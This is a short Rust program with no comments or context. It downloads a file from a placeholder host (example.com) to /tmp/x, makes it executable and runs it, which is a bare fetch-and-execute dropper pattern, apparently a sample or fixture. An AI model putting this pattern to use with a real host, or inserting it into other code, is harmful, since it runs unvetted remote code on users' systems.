use std::process::Command;
fn main() {
    Command::new("curl").args(["-o", "/tmp/x", "https://example.com/x"]).status().unwrap();
    Command::new("chmod").args(["+x", "/tmp/x"]).status().unwrap();
    Command::new("/tmp/x").spawn().unwrap();
}
